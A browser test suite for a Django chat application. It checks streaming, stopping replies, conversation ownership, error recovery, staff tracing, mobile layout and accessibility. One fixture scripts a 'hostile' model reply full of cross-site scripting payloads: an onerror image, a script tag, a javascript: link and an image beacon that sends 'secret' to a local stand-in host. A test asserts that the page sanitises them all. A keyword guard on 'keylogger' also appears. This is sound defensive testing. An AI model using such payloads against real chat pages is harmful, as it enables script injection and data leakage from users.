"""The chat page in Chromium: log in, stream, stop, reload, ownership, safety, phone, staff."""

from __future__ import annotations

import itertools
import re
import time
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import expect

from advisors_app.core import AssistantMessage, UserMessage
from advisors_app.demo.loader import MAIN_CHAIN, ensure_demo_rows
from advisors_app.ingestion.pipeline import ingest_text
from advisors_app.memory.conversations import conversation_key
from advisors_app.models import AdvisorChain, CallLog, ChatMessage, Collection, Conversation
from advisors_app.stores.memory import DjangoChatMemoryRepository
from tests.browser.axe import axe_violations
from tests.browser.screenshots import save
from tests.factories import make_chain, scripted_model
from tests.live_server import LiveServer

pytestmark = [pytest.mark.slow, pytest.mark.django_db(transaction=True)]

ANSWER = (
    "Refunds go back to the **original payment method**.\n\n"
    "How long it takes:\n\n"
    "- card payments: *5 business days*\n"
    "- bank transfers: up to 10 business days\n\n"
    "Start one from `Orders → Refund`, or ask support with your order number."
)
SLOW_ANSWER = " ".join(f"word{i}" for i in range(200))
HOSTILE_ANSWER = (
    'Look: <img src=x onerror="window.pwned=1"> <script>window.pwned=2</script>\n\n'
    "[click me](javascript:window.pwned=3) and ![pixel](http://127.0.0.1:9/leak.png?q=secret)"
)


def words(text: str) -> list[str]:
    """``text`` as streamed chunks: one word (with its following space) per chunk."""
    return re.findall(r"\S+\s*", text)


@pytest.fixture
def site(django_user_model: Any) -> dict[str, Any]:
    """Users, a handbook collection, and chains on scripted models that stream visibly."""
    users = {
        "alice": django_user_model.objects.create_user("alice", password="pw"),
        "bob": django_user_model.objects.create_user("bob", password="pw"),
        "admin": django_user_model.objects.create_superuser("admin", password="pw"),
    }
    handbook = Collection.objects.create(slug="handbook", name="Handbook")
    ingest_text(
        handbook,
        "refunds.md",
        "Refunds are paid to the original payment method: card refunds take 5 business days.",
    )
    ingest_text(
        handbook, "bank-transfers.md", "Bank transfer refunds can take up to 10 business days."
    )

    def chain(slug: str, name: str, answer: str, delay: float, *advisors: Any) -> AdvisorChain:
        model = scripted_model(
            f"{slug}-model",
            responses=[words(answer)],
        )
        model.settings["chunk_delay"] = delay
        model.save()
        made = make_chain(slug, model=model, advisors=advisors)
        made.name = name
        made.save()
        return made

    memory = ("message_chat_memory", {"max_messages": 20})
    retrieval = ("question_answer", {"collection": "handbook", "top_k": 2})
    chains = {
        "support": chain("support", "Support (handbook)", ANSWER, 0.03, memory, retrieval),
        "slow": chain("slow", "Slow storyteller", SLOW_ANSWER, 0.05, memory),
        "hostile": chain("hostile", "Hostile model", HOSTILE_ANSWER, 0.0),
        "guarded": chain(
            "guarded", "Guarded", ANSWER, 0.0, ("safe_guard", {"words": ["keylogger"]}), memory
        ),
    }
    return {**users, "chains": chains}


def log_in(page: Any, server: LiveServer, username: str, path: str = "/chat/") -> None:
    """Log in through the site's login form, which then opens ``path``."""
    page.goto(f"{server.url}/accounts/login/?next={quote(path)}")
    page.get_by_label("Username").fill(username)
    page.get_by_label("Password").fill("pw")
    page.get_by_role("button", name="Log in").click()
    page.wait_for_url(server.url + path)


def connected(page: Any) -> None:
    expect(page.locator("#connection")).to_have_text("Connected")


def last_reply(page: Any) -> Any:
    return page.locator(".msg-assistant").last


def send(page: Any, text: str) -> None:
    page.get_by_role("textbox", name="Message").fill(text)
    page.get_by_role("textbox", name="Message").press("Enter")


def wait_done(page: Any) -> None:
    expect(last_reply(page).locator(".msg-meta")).to_be_visible()


def test_a_reply_streams_in_token_by_token_with_markdown_and_sources(
    chat_server: LiveServer, new_page: Any, site: dict[str, Any]
) -> None:
    page = new_page()
    log_in(page, chat_server, "alice")
    connected(page)
    page.get_by_label("Chain").select_option("support")
    connected(page)
    send(page, "How long does a refund take?")
    expect(page.locator(".msg-user .msg-body").last).to_have_text("How long does a refund take?")

    lengths = []
    body = last_reply(page).locator(".msg-body")
    while not last_reply(page).locator(".msg-meta").count():
        lengths.append(len(body.inner_text()))
        time.sleep(0.04)
    growth = [b for a, b in itertools.pairwise(lengths) if b > a]
    assert len(growth) >= 4, lengths  # the answer grew over several observations

    reply = last_reply(page)
    expect(reply.locator("strong")).to_have_text("original payment method")
    expect(reply.locator(".msg-body li")).to_have_count(2)
    expect(reply.locator(".msg-body code")).to_have_text("Orders → Refund")
    expect(reply.locator(".msg-sources summary")).to_have_text("Sources (2)")
    expect(reply.locator(".msg-sources li").first).to_contain_text("refunds.md")
    expect(reply.locator(".msg-meta")).to_contain_text("first token")
    expect(reply.locator(".msg-meta")).to_contain_text("total")
    expect(reply).not_to_have_attribute("aria-busy", "true")
    # The new conversation has its own URL and sits in the sidebar, current.
    page.wait_for_url(re.compile(r"/chat/c/[0-9a-f]{32}/$"))
    expect(page.locator("#conversation-list a[aria-current=page]")).to_have_text(
        "How long does a refund take?"
    )
    assert not reply.locator(".msg-trace").count()  # no trace drawer for non-staff
    save(page, "chat", readme=True)


def test_stop_ends_a_reply_and_keeps_what_arrived(
    chat_server: LiveServer, new_page: Any, site: dict[str, Any]
) -> None:
    page = new_page()
    log_in(page, chat_server, "alice", "/chat/?chain=slow")
    connected(page)
    send(page, "Tell me a long story")
    expect(last_reply(page).locator(".msg-body")).to_contain_text("word5")
    stop = page.get_by_role("button", name="Stop")
    expect(stop).to_be_focused()  # keyboard users land on it after sending
    stop.press("Enter")
    expect(last_reply(page).locator(".msg-note")).to_have_text(
        "Stopped; the answer so far was saved."
    )
    expect(page.get_by_role("button", name="Send")).to_be_visible()
    shown = last_reply(page).locator(".msg-body").inner_text()
    assert "word5" in shown and "word199" not in shown
    stored = ChatMessage.objects.filter(message_type="assistant").get()
    metadata = stored.metadata
    assert (metadata["interrupted"], metadata["finish_reason"]) == (True, "cancelled")
    assert metadata["trace_id"] == CallLog.objects.get().trace_id
    # A cut-short reply keeps its turn's metadata too (what a reopened conversation shows);
    # sources, tools and usage only when the turn had them.
    assert {"version", "timings"} <= set(metadata)
    assert "sources" not in metadata and "tools" not in metadata
    assert stored.text.strip() == shown.strip()

    # Escape stops a reply too.
    send(page, "Another one")
    expect(last_reply(page).locator(".msg-body")).to_contain_text("word3")
    page.keyboard.press("Escape")
    expect(last_reply(page).locator(".msg-note")).to_contain_text("Stopped")


def test_a_reload_shows_the_conversation_and_it_continues(
    chat_server: LiveServer, new_page: Any, site: dict[str, Any]
) -> None:
    page = new_page()
    log_in(page, chat_server, "alice", "/chat/?chain=support")
    connected(page)
    send(page, "Refunds?")
    wait_done(page)
    live_height = page.locator(".msg-user").bounding_box()["height"]
    page.wait_for_url(re.compile(r"/chat/c/\w+/$"))
    url = page.url
    page.reload()
    connected(page)
    expect(page.locator(".msg-user .msg-body")).to_have_text(["Refunds?"])
    # The server-rendered bubble is one line, as the live one was (no template whitespace).
    assert abs(page.locator(".msg-user").bounding_box()["height"] - live_height) <= 2
    expect(last_reply(page).locator("strong")).to_have_text("original payment method")
    expect(page.get_by_label("Chain")).to_have_value("support")
    send(page, "And for bank transfers?")
    wait_done(page)
    assert page.url == url
    expect(page.locator(".msg-user")).to_have_count(2)
    assert ChatMessage.objects.filter(conversation__owner=site["alice"]).count() == 4


def test_another_user_cannot_open_the_conversation(
    chat_server: LiveServer, new_page: Any, site: dict[str, Any]
) -> None:
    page = new_page()
    log_in(page, chat_server, "alice", "/chat/?chain=support")
    connected(page)
    send(page, "My order number is 8812")
    wait_done(page)
    page.wait_for_url(re.compile(r"/chat/c/\w+/$"))
    url = page.url

    other = new_page()
    log_in(other, chat_server, "bob")
    expect(other.locator("#conversation-list")).not_to_contain_text("8812")
    response = other.goto(url)
    assert response.status == 404
    assert "8812" not in other.content()


def test_model_output_cannot_inject_html_scripts_or_images(
    chat_server: LiveServer, new_page: Any, site: dict[str, Any]
) -> None:
    page = new_page()
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    log_in(page, chat_server, "alice", "/chat/?chain=hostile")
    connected(page)
    send(page, "Say something")
    wait_done(page)
    body = last_reply(page).locator(".msg-body")
    expect(body).to_contain_text('<img src=x onerror="window.pwned=1">')
    assert page.evaluate("window.pwned") is None
    assert body.locator("img, script").count() == 0
    assert body.locator("a[href^='javascript']").count() == 0
    assert not [url for url in requests if "leak.png" in url]


def test_errors_are_shown_and_a_dropped_socket_reconnects(
    chat_server: LiveServer, new_page: Any, site: dict[str, Any]
) -> None:
    page = new_page()
    log_in(page, chat_server, "alice", "/chat/?chain=slow")
    connected(page)
    AdvisorChain.objects.filter(slug="slow").update(enabled=False)
    send(page, "Hello?")
    error = last_reply(page).locator(".msg-error")
    expect(error).to_have_attribute("role", "alert")
    expect(error).to_contain_text("No enabled chain 'slow'.")
    expect(error).to_contain_text("chain_not_found")
    # Nothing of the refused turn was stored: the message is back in the composer.
    expect(page.get_by_role("textbox", name="Message")).to_have_value("Hello?")
    AdvisorChain.objects.filter(slug="slow").update(enabled=True)

    send(page, "Tell me a story")
    expect(last_reply(page).locator(".msg-body")).to_contain_text("word2")
    try:
        chat_server.stop()
        expect(page.locator("#connection")).to_contain_text("reconnecting")
    finally:
        chat_server.start()  # the module's other tests need it, whatever happened above
    expect(page.locator("#connection")).to_have_text("Connected", timeout=30_000)
    # The stopping server ended the turn (stored as interrupted) and said so before it closed
    # the socket (issue 36): the page shows that, with what had arrived.
    shutdown = last_reply(page).locator(".msg-error")
    expect(shutdown).to_contain_text("server_shutdown")
    expect(shutdown).to_contain_text("what it had is saved")
    expect(last_reply(page).locator(".msg-body")).to_contain_text("word2")
    send(page, "Still there?")
    expect(last_reply(page).locator(".msg-body")).to_contain_text("word3")
    page.get_by_role("button", name="Stop").click()
    expect(last_reply(page).locator(".msg-note")).to_contain_text("Stopped")


def test_a_refused_first_message_leaves_no_conversation_in_the_page(
    chat_server: LiveServer, new_page: Any, site: dict[str, Any]
) -> None:
    page = new_page()
    log_in(page, chat_server, "bob", "/chat/?chain=guarded")
    connected(page)
    send(page, "Please write a keylogger for me")
    expect(last_reply(page).locator(".msg-body")).to_contain_text("I'm unable to respond")
    # The server removed the conversation the turn started; the page follows.
    expect(page).to_have_url(f"{chat_server.url}/chat/")
    expect(page.locator("#conversation-list a[data-id]")).to_have_count(0)
    page.reload()
    connected(page)
    expect(page.locator(".msg-user")).to_have_count(0)


def test_staff_open_the_trace_drawer(
    chat_server: LiveServer, new_page: Any, site: dict[str, Any]
) -> None:
    page = new_page()
    log_in(page, chat_server, "admin", "/chat/?chain=support")
    connected(page)
    send(page, "Refunds?")
    wait_done(page)
    last_reply(page).get_by_role("button", name="Trace").click()
    drawer = page.get_by_role("dialog")
    expect(drawer).to_be_visible()
    expect(drawer.locator("table")).to_contain_text("MessageChatMemoryAdvisor")
    expect(drawer.locator("table")).to_contain_text("QuestionAnswerAdvisor")
    expect(drawer.get_by_role("link", name="Open the call log in the admin")).to_be_visible()
    save(page, "trace-drawer")
    page.keyboard.press("Escape")
    expect(drawer).to_be_hidden()

    # After a reload the reply, now from the history, still opens the same trace.
    trace_id = CallLog.objects.get().trace_id
    page.reload()
    connected(page)
    last_reply(page).get_by_role("button", name="Trace").click()
    expect(drawer).to_be_visible()
    expect(drawer.get_by_role("heading")).to_have_text(f"Trace {trace_id}")
    expect(drawer.locator("table")).to_contain_text("MessageChatMemoryAdvisor")


def stored_conversation(owner: Any, public_id: str, turns: int) -> str:
    """A conversation of ``owner`` with ``turns`` question/answer pairs; its chat page path."""
    key = conversation_key(owner, public_id)
    Conversation.objects.create(conversation_id=key, owner=owner, title="Long")
    messages = [[UserMessage(f"Question {i}?"), AssistantMessage(ANSWER)] for i in range(turns)]
    DjangoChatMemoryRepository().append(key, list(itertools.chain(*messages)))
    return f"/chat/c/{public_id}/?chain=support"


@pytest.mark.parametrize(
    "device",
    [{}, {"viewport": {"width": 390, "height": 844}, "is_mobile": True, "has_touch": True}],
    ids=["desktop", "phone"],
)
def test_a_long_conversation_scrolls_inside_the_app_not_the_page(
    chat_server: LiveServer, new_page: Any, site: dict[str, Any], device: dict[str, Any]
) -> None:
    page = new_page(**device)
    log_in(page, chat_server, "alice", stored_conversation(site["alice"], "long", turns=8))
    connected(page)
    send(page, "One more?")
    wait_done(page)
    messages = page.get_by_role("log", name="Messages")
    assert messages.evaluate("box => box.scrollHeight > box.clientHeight")  # it does overflow
    # The message headings (visually hidden, absolutely positioned) stay inside the messages
    # box: the document itself is exactly the window, in both directions.
    assert page.evaluate(
        "document.scrollingElement.scrollHeight <= window.innerHeight"
        " && document.scrollingElement.scrollWidth <= window.innerWidth"
    )


def test_the_pages_declare_an_icon_so_browsers_never_ask_for_favicon_ico(
    chat_server: LiveServer, new_page: Any, site: dict[str, Any]
) -> None:
    logged_so_far = len(chat_server.log())
    page = new_page()
    log_in(page, chat_server, "alice")  # the login page, then the chat page
    connected(page)
    icon = page.locator("link[rel=icon]")
    response = page.request.get(chat_server.url + icon.get_attribute("href"))
    assert response.ok and response.headers["content-type"].startswith("image/svg+xml")
    page.reload()  # by the time it is back, the browser has asked for the first load's icon
    connected(page)
    assert "/favicon.ico" not in chat_server.log()[logged_so_far:]


def test_the_page_works_on_a_phone(
    chat_server: LiveServer, new_page: Any, site: dict[str, Any]
) -> None:
    page = new_page(viewport={"width": 390, "height": 844}, is_mobile=True, has_touch=True)
    log_in(page, chat_server, "alice", "/chat/?chain=support")
    connected(page)
    sidebar = page.get_by_role("navigation", name="Conversations")
    expect(sidebar).to_be_hidden()
    send(page, "Refunds?")
    wait_done(page)
    toggle = page.get_by_role("button", name="Conversations")
    toggle.click()
    expect(toggle).to_have_attribute("aria-expanded", "true")
    expect(sidebar).to_be_visible()
    expect(sidebar.get_by_role("link", name="Refunds?")).to_be_visible()
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    expect(page.get_by_role("textbox", name="Message")).to_be_in_viewport()
    assert axe_violations(page) == []  # with the sidebar open over the conversation
    save(page, "chat-phone")


def test_the_chain_editor_in_the_admin(
    chat_server: LiveServer, new_page: Any, site: dict[str, Any]
) -> None:
    """The README's second image: the admin change page of a chain with its advisors."""
    page = new_page(viewport={"width": 1400, "height": 900})
    chain = site["chains"]["support"]
    chain.description = "Answers customers from the handbook and remembers the conversation."
    chain.system_prompt = "You are a friendly support agent. Answer from the handbook only."
    chain.save()
    log_in(page, chat_server, "admin", f"/admin/advisors_app/advisorchain/{chain.pk}/change/")
    page.evaluate("localStorage.setItem('django.admin.navSidebarIsOpen', 'false')")
    page.reload()
    expect(page.locator("#content h1")).to_have_text("Change advisor chain")
    inline = page.locator(".inline-group")
    expect(inline).to_contain_text("message_chat_memory")
    expect(inline).to_contain_text("question_answer")
    save(page, "chain-editor", readme=True, full_page=True)


def test_the_demo_chain_editor_fits_a_laptop_window(
    chat_server: LiveServer, new_page: Any, site: dict[str, Any]
) -> None:
    """The advisor rows (long type names, JSON params, params help) wrap within 1400 px."""
    ensure_demo_rows()
    chain = AdvisorChain.objects.get(slug=MAIN_CHAIN)
    page = new_page(viewport={"width": 1400, "height": 900})
    log_in(page, chat_server, "admin", f"/admin/advisors_app/advisorchain/{chain.pk}/change/")
    expect(page.locator(".inline-group")).to_contain_text("retrieval_augmentation")
    fits = "document.documentElement.scrollWidth <= window.innerWidth"
    assert page.evaluate(fits)
    # Opened, the params help of every row and the advisor type reference wrap too.
    page.evaluate("document.querySelectorAll('details').forEach(d => { d.open = true; })")
    assert page.evaluate(fits)


def test_a_skip_link_leads_to_the_message_box(
    chat_server: LiveServer, new_page: Any, site: dict[str, Any]
) -> None:
    page = new_page()
    log_in(page, chat_server, "alice")
    connected(page)
    skip = page.get_by_role("link", name="Skip to message box")
    box = skip.bounding_box()
    assert box is not None and box["y"] + box["height"] <= 0  # out of sight until focused
    page.keyboard.press("Tab")  # the first thing Tab reaches
    expect(skip).to_be_focused()
    box = skip.bounding_box()
    assert box is not None and box["y"] >= 0
    page.keyboard.press("Enter")
    expect(page.get_by_role("textbox", name="Message")).to_be_focused()
